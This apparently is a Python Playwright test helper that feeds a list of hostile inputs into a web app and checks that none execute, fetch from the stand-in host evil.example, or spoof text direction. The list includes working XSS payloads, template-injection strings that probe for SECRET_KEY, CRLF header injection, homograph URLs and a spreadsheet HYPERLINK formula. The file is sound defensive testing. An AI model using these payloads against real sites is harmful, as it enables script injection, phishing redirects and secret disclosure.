"""Words that mean harm, and the eyes that see when one of them became more than words."""

from collections.abc import Iterable, Iterator
from typing import Any  # what a browser answers
from urllib.parse import urlsplit

from playwright.sync_api import BrowserContext, ConsoleMessage, Dialog, Frame, Page

# Whatever runs, it sets `__pwned`; whatever is fetched, it is fetched from there.
EVIL = "evil.example"
PAYLOADS: tuple[str, ...] = (
    "<script>window.__pwned=1;alert(1)</script>",
    "<img src=x onerror=window.__pwned=2>",
    '"><svg onload=window.__pwned=3>',
    "<svg><script>window.__pwned=4</script><a xlink:href=javascript:window.__pwned=4>x</a></svg>",
    '<a href="javascript:window.__pwned=5">press</a>',
    "javascript:window.__pwned=6//",
    "JaVaScRiPt&colon;window.__pwned=7",
    '<iframe srcdoc="<script>parent.__pwned=8</script>">',
    "' autofocus onfocus=window.__pwned=9 x='",
    '" onmouseover="window.__pwned=10',
    f'<img src="https://{EVIL}/unclosed?',
    '<!-- <b title="',
    "</title></textarea></script><script>window.__pwned=13</script>",
    "{{7*7}} ${7*7} #{7*7} {{constructor.constructor('window.__pwned=14')()}}",
    "{% load i18n %}{% debug %}{{ settings.SECRET_KEY }}",
    "one\u2028window.__pwned=16//\u2029two",
    "photo\u202egpj.exe\u202c end",
    "%00<b>\\u0000</b> null undefined NaN [object Object]",
    f"[press](javascript:window.__pwned=19) ![x](https://{EVIL}/pixel.png)",
    "data:text/html,<script>window.__pwned=20</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f'<p style="background:url(https://{EVIL}/css)">x</p>',
    f"</style><style>@import url(https://{EVIL}/x.css);*{{color:red}}</style>",
    "W" * 300,
    "&lt;b&gt;bold&lt;/b&gt; &amp;amp; &#60;script&#62;",
    f'<base href="https://{EVIL}/"><meta http-equiv=refresh content="0;url=https://{EVIL}/">',
    f"<form action=https://{EVIL}/><button formaction=javascript:window.__pwned=27>press",
    "<details open ontoggle=window.__pwned=28>",
    f'=HYPERLINK("https://{EVIL}","press")',
    "{name} {words} {0} %(name)s %s $& $1 $` \\0 __proto__",
    f"\u202ehttps://{EVIL}/ https://{EVIL}/\u202egpj.exe after",
    f"https://\u0430pple.example/login https://apple.example@{EVIL}/ http://[::1]/ https://xn--pple-43d.example",
    f"mailto:ana@{EVIL}?bcc=all@{EVIL}&body=x mailto:bo@{EVIL}%0d%0aBcc:all@{EVIL}",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308 e\u0301\u0302\u0303 \u0e51\u0489",
    f'<p style="width:expression(window.__pwned=34);behavior:url(https://{EVIL}/x.htc)">x</p>',
    '<a href="data:text/html,<script>opener.__pwned=35</script>" target=_blank>press</a>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__pwned=36&gt;">',
    "java\tscript:window.__pwned=37\r\nSet-Cookie: pwned=37\n<b>next line</b>",
    "`${window.__pwned=38}` x=`onmouseover=window.__pwned=38`",
    f"//{EVIL}/protocol-relative \\\\{EVIL}\\share vbscript:msgbox(39) feed:javascript:window.__pwned=39",
)
# Everything that a mail address may be, a browser's own check aside.
ADDRESS = f'"<img/src=x/onerror=window.__pwned=31>"@{EVIL}'

_TEXT = """() => {
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const told = ['title', 'aria-label', 'alt', 'placeholder', 'content', 'label'];
  const attributes = [...document.querySelectorAll(told.map((name) => `[${name}]`).join())]
    .flatMap((element) => told.map((name) => element.getAttribute(name) ?? ''));
  const pieces = [document.title, '\\n'];
  while (walker.nextNode()) {
    const { data, parentElement } = walker.currentNode;
    if (!parentElement.matches('script, style, noscript')) pieces.push(data);
  }
  const fields = [...document.querySelectorAll('input, textarea')].map((field) => field.value);
  return [pieces.join(''), ...fields, ...attributes].join('\\n');
}"""

# What no page of ours has in its body, and every address or handler that text could have become.
_MADE = """() => {
  const alien = 'script:not([src]):not([type="application/json"]), style, object, embed, base, math, marquee, ' +
    'video, audio, meta, link, frame, animate, foreignObject, [style*="url("], [srcdoc], [formaction], [src="x"]';
  const found = [...document.body.querySelectorAll(alien)];
  for (const element of document.body.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      const runs = /^on/i.test(name);
      const isAddress = /^(href|src|action|xlink:href|data|poster)$/i.test(name);
      const leads = isAddress && /^\\s*(javascript|data|vbscript):/i.test(value);
      // A link in somebody's words leads to the web or to one mail address, and the mail has no other heads.
      const isTheirs = element.matches('.bubble a, .note-body a');
      const isOdd = isTheirs && name === 'href' && !/^(https?:\\/\\/|mailto:[^?&%]+$)/.test(value);
      if (runs || leads || isOdd) found.push(element);
    }
  }
  return found.map((element) => element.outerHTML.slice(0, 200));
}"""

# Letters that turn the reading direction must stay among themselves: nothing else in what isolates them.
_TURNED = """() => {
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const turned = [];
  while (walker.nextNode()) {
    const { data, parentElement } = walker.currentNode;
    if (!data.includes('\\u202e') || parentElement.closest('script, option, .visually-hidden')) continue;
    let element = parentElement;
    while (!/isolate|plaintext/.test(getComputedStyle(element).unicodeBidi)) element = element.parentElement;
    // Somebody's own words may turn each other, though not the text of a link, which says where it leads.
    if (element.matches('.bubble, .note-body')) continue;
    if (element.textContent.trim() !== data.trim()) turned.push(element.outerHTML.slice(0, 300));
  }
  return turned;
}"""


class Watch:
    """Sees in every page of a profile when text was run, fetched, opened or refused by the policy."""

    def __init__(self, context: BrowserContext) -> None:
        self.context = context
        self.alarms: list[str] = []
        context.on("page", self._follow)
        context.on("request", lambda request: self._note_address(request.url))
        for page in context.pages:
            self._follow(page)

    def check(self) -> None:
        """Fail if anything has happened in any page that is still open, or was."""
        for page in self.context.pages:
            self.alarms += [f"ran in {frame.url}" for frame in page.frames if _is_pwned(frame)]
        assert self.alarms == [], self.alarms

    def _follow(self, page: Page) -> None:
        page.on("dialog", self._note_dialog)
        page.on("popup", lambda popup: self.alarms.append(f"opened {popup.url}"))
        page.on("pageerror", lambda error: self.alarms.append(f"error: {error}"))
        page.on("console", self._note_report)

    def _note_dialog(self, dialog: Dialog) -> None:
        self.alarms.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _note_report(self, line: ConsoleMessage) -> None:
        if "Content Security Policy" in line.text or "Content-Security-Policy" in line.text:
            self.alarms.append(line.text)

    def _note_address(self, url: str) -> None:
        if urlsplit(url).hostname == EVIL:
            self.alarms.append(f"fetched {url}")


def _is_pwned(frame: Frame) -> bool:
    return bool(frame.evaluate("window.__pwned !== undefined"))


def check_literal(view: Page | Frame, words: Iterable[str]) -> None:
    """Fail unless all `words` stand in the view as they are, and made nothing, turned nothing, widened nothing."""
    text = view.evaluate(_TEXT)
    missing = [word for word in words if word not in text]
    assert missing == [], f"{view.url} lacks {missing} and shows:\n{text[:6000]}"
    for what, seen in (("made", _MADE), ("turned", _TURNED)):
        found = view.evaluate(seen)
        assert found == [], f"{view.url}: text {what} {found}"
    wide = view.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
    assert wide == 0, f"{view.url} is {wide} pixels too wide"


def closed_text(page: Page) -> str:
    """Return the text in the closed shadow roots of a page; fail on an element there that text could have made."""
    session = page.context.new_cdp_session(page)
    root = session.send("DOM.getDocument", {"depth": -1, "pierce": True})["root"]
    closed = [node for node in _nodes(root) if node.get("shadowRootType") == "closed"]
    within = [node for shadow in closed for node in _nodes(shadow)]
    assert not {node["nodeName"] for node in within} & {"SCRIPT", "IMG", "STYLE", "BASE", "META", "OBJECT"}
    return "".join(node["nodeValue"] for node in within)


def _nodes(root: dict[str, Any]) -> Iterator[dict[str, Any]]:
    yield root
    for child in (*root.get("children", ()), *root.get("shadowRoots", ())):
        yield from _nodes(child)


def as_line(text: str) -> str:
    """Return a text as a field of one line keeps it."""
    return " ".join(text.replace("\u202e", "").replace("\u202c", "").split())


def ask(view: Page | Frame, method: str, url: str, body: object = None, **headers: str) -> Any:
    """Send JSON from inside a page, as its own script would, and return the answer's JSON.

    Where the server says that it was too much at once, ask again when it says.
    """
    sent = {"method": method, "url": url, "body": body, "headers": headers}
    while True:
        status, answer, wait = view.evaluate(_ASK, sent)
        if status != 429:
            break
        view.wait_for_timeout(wait * 1000)
    assert status < 300, f"{method} {url}: {status} {answer}"
    return answer


_ASK = """async ({ method, url, body, headers }) => {
  const options = body === null ? {} : { body: JSON.stringify(body) };
  const answer = await fetch(url, { method, headers: { 'Content-Type': 'application/json', ...headers }, ...options });
  const content = answer.status === 204 ? null : await answer.json();
  return [answer.status, content, content?.error?.retry_after ?? 1];
}"""
